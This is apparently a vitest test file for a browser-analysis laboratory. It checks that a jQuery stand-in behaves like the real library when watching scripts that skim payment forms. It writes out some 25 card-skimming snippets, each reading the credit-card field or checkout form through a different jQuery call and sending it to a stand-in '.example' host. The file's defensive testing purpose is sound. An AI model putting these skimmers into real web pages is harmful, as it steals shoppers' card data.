// Guards that what scripts do with jQuery works with the laboratory's stand-in as it does with the real library.
import { readFileSync } from 'node:fs'
import { expect, it } from 'vitest'
import { all, run, shareBrowser } from './run.ts'

shareBrowser()

const library = readFileSync(new URL('../../dist/jquery.min.js', import.meta.resolve('jquery')), 'utf8')

const field = "jQuery('#ccsave_cc_number')"
/** Each runs when a button was pressed, as a function of its own, and sends the card to the host of its name. */
const ways: Record<string, (to: string) => string> = {
  val: (to) => `new Image().src = '${to}?' + ${field}.val()`,
  serialize: (to) => `jQuery.post('${to}', jQuery('#co-payment-form').serialize())`,
  'serialize-array': (to) => `jQuery.ajax({ url: '${to}', method: 'POST', data: jQuery('form').serializeArray() })`,
  'get-json': (to) => `jQuery.getJSON('${to}', { card: ${field}.val() })`,
  jsonp: (to) => `jQuery.ajax({ url: '${to}', dataType: 'jsonp', data: { card: ${field}.val() } })`,
  script: (to) => `jQuery.getScript('${to}?' + ${field}.val())`,
  load: (to) => `jQuery('<div>').load('${to}', { card: ${field}.val() })`,
  'made-image': (to) => `jQuery('<img>', { src: '${to}?' + ${field}.val() }).appendTo('body')`,
  'made-frame': (to) => `jQuery('<iframe/>').attr('src', '${to}?' + ${field}.val()).hide().appendTo(document.body)`,
  map: (to) =>
    `navigator.sendBeacon('${to}', jQuery('input:text').map(function () { return this.name + '=' + jQuery(this).val() }).get().join('&'))`,
  each: (to) =>
    `const out = {}; jQuery(':input').each((at, one) => { out[one.name || at] = one.value }); jQuery.post('${to}', JSON.stringify(out))`,
  grep: (to) => `navigator.sendBeacon('${to}', jQuery.grep(jQuery('input').toArray(), (one) => /cc_number/.test(one.name))[0].value)`,
  proxy: (to) => `jQuery.proxy(function (card) { navigator.sendBeacon(this.to, card) }, { to: '${to}' })(${field}.val())`,
  deferred: (to) =>
    `const later = jQuery.Deferred(); later.done((card) => navigator.sendBeacon('${to}', card)); later.resolve(${field}.val())`,
  when: (to) => `jQuery.when(${field}.val()).done((card) => navigator.sendBeacon('${to}', card))`,
  slice: (to) => `navigator.sendBeacon('${to}', ${field}.slice(0, 1).val())`,
  clone: (to) => `navigator.sendBeacon('${to}', ${field}.clone().val())`,
  queue: (to) => `${field}.queue(function (next) { navigator.sendBeacon('${to}', jQuery(this).val()); next() })`,
  handler: (to) => `${field}.on('taken', (event, to) => navigator.sendBeacon(to, ${field}.val())).triggerHandler('taken', ['${to}'])`,
  told: (to) => `jQuery(document).on('taken', (event, card) => navigator.sendBeacon('${to}', card)).trigger('taken', [${field}.val()])`,
  walk: (to) =>
    `navigator.sendBeacon('${to}', jQuery('#payment_form_ccsave').children().first().nextAll().addBack().find('input').filter((at, one) => /cc_number/.test(one.name)).val())`,
  merged: (to) =>
    `if (!jQuery.isEmptyObject({ a: 1 }) && jQuery.contains(document.body, ${field}[0])) navigator.sendBeacon('${to}', jQuery.merge([], [${field}.val()])[0])`,
  callbacks: (to) => `const list = jQuery.Callbacks(); list.add((card) => navigator.sendBeacon('${to}', card)); list.fire(${field}.val())`,
  end: (to) => `navigator.sendBeacon('${to}', ${field}.closest('form').find('select').end().find('input[name*=cc_number]').val())`,
  deep: (to) => `jQuery.post('${to}', jQuery.extend(true, {}, { payment: { number: ${field}.val() } }))`,
}
const script = Object.entries(ways)
  .map(([name, code]) => `jQuery(document).on('mousedown.${name}', '.button', function () { ${code(`https://${name}.example/`)} })`)
  .join('\n')

it.each([
  ['the stand-in', script],
  ['the real library', `${library}\n${script}`],
])('sends the card by every call with %s', async (_what, code) => {
  const told = await run(code, { timeoutMs: 120_000 })
  const to = all(told, 'sends').flatMap(({ what, to }) => (what === 'card' ? [to.replace('.example', '')] : []))
  expect([told.why, [...new Set(to)].sort()]).toEqual([null, Object.keys(ways).sort()])
})
